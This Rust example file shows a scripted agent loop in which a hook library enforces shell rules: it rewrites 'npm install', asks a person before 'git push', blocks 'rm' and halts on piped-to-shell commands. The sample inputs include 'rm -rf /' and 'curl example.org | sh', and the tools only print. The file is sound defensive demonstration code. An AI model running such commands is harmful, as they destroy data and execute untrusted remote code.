//! An agent loop with tools that does what verdicts say: it runs patched input, tells the model why a call was
//! blocked, asks a person, and stops when it is halted. The model is a script, and the tools only print.
//!
//! ```sh
//! cargo run --example agent_loop
//! ```

use std::{
    error::Error,
    io::{IsTerminal, Write, stdin, stdout},
};

use hookyard::{
    DispatchError, NativeHook, Orchestrator, Run, ToolCall,
    model::{Capability, EventKind, Json, JsonError, Reply, Target, ToolCallId, Verdict},
};
use serde::{Deserialize, Serialize};

/// The input of the tool Bash.
#[derive(Serialize, Deserialize)]
struct Bash {
    command: String,
}

/// What became of a tool call.
enum CallResult {
    /// The tool ran; this is its output.
    Ran(String),
    /// The tool did not run; this is what the model is told.
    Refused(String),
    /// The run is over.
    Halted(String),
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<(), Box<dyn Error>> {
    let orchestrator = Orchestrator::builder().native_hook(shell_rules()?).start().await?;
    let run = orchestrator.run("run-1")?;
    // What a model would ask for, one call at a time.
    let commands = ["ls", "npm install", "git push", "rm -rf /", "curl example.org | sh", "ls"];
    for (number, command) in commands.into_iter().enumerate() {
        let id = ToolCallId::new(format!("call-{number}"))?;
        match call_bash(&run, id, Bash { command: command.to_owned() }).await? {
            CallResult::Ran(output) => println!("{command} -> {output}"),
            CallResult::Refused(reason) => println!("{command} -> the model is told: {reason}"),
            CallResult::Halted(reason) => {
                println!("{command} -> the run ends: {reason}");
                run.run_failed("user").await?;
                return Ok(());
            }
        }
    }
    run.run_completed("user").await?;
    Ok(())
}

/// One tool call with its events before and after.
async fn call_bash(run: &Run, id: ToolCallId, input: Bash) -> Result<CallResult, Box<dyn Error>> {
    let call = ToolCall::new("Bash", &input).with_id(id.clone());
    let outcome = match run.before_tool_dispatch(&call).await {
        Ok(outcome) => outcome,
        // No verdict is no consent: this host fails closed.
        Err(DispatchError::Overloaded(limit)) => return Ok(CallResult::Refused(limit.to_string())),
        Err(error) => return Err(error.into()),
    };
    let reason = outcome.reason.as_deref().unwrap_or("no reason given").to_owned();
    // No wildcard arm: a new verdict must not run a tool by accident.
    match outcome.verdict {
        Verdict::Proceed | Verdict::Allow => {}
        Verdict::Ask => {
            if !person_agrees(&input.command, &reason)? {
                return Ok(CallResult::Refused("a person said no".to_owned()));
            }
        }
        Verdict::Block => return Ok(CallResult::Refused(reason)),
        Verdict::Halt => return Ok(CallResult::Halted(reason)),
    }
    // Hooks may have changed the input; the changed one is what must run.
    let input: Bash = outcome.tool_input()?.unwrap_or(input);
    let output = format!("ran `{}`", input.command);
    let call = ToolCall::new("Bash", &input).with_id(id);
    let after = run.after_tool_dispatch(&call, &output).await?;
    Ok(CallResult::Ran(after.tool_output()?.unwrap_or(output)))
}

/// Asks at the terminal; without one, the answer is no.
fn person_agrees(command: &str, reason: &str) -> Result<bool, Box<dyn Error>> {
    if !stdin().is_terminal() {
        return Ok(false);
    }
    print!("Run `{command}`? {reason} [y/N] ");
    stdout().flush()?;
    let mut line = String::new();
    stdin().read_line(&mut line)?;
    Ok(line.trim() == "y")
}

/// The rules of this host, as one native hook.
fn shell_rules() -> Result<NativeHook, JsonError> {
    let clean_install = Json::of(&Bash { command: "npm ci".to_owned() })?;
    let rules = move |command: &str| match command {
        "npm install" => Reply::proceed().patch(Target::ToolInput, clean_install.clone()),
        "git push" => Reply::ask("it publishes the branch"),
        command if command.starts_with("rm ") => Reply::block("deleting files is not allowed"),
        command if command.ends_with("| sh") => Reply::halt("that runs code from the network"),
        _ => Reply::proceed(),
    };
    let hook = NativeHook::inline("shell-rules", [EventKind::BeforeToolDispatch], move |draft| {
        let input = draft.target(Target::ToolInput).ok_or("the call has no input")?;
        let input: Bash = input.read().map_err(|error| error.to_string())?;
        Ok(rules(&input.command))
    });
    Ok(hook.matcher("^Bash$").capability(Capability::RewriteToolRequest))
}
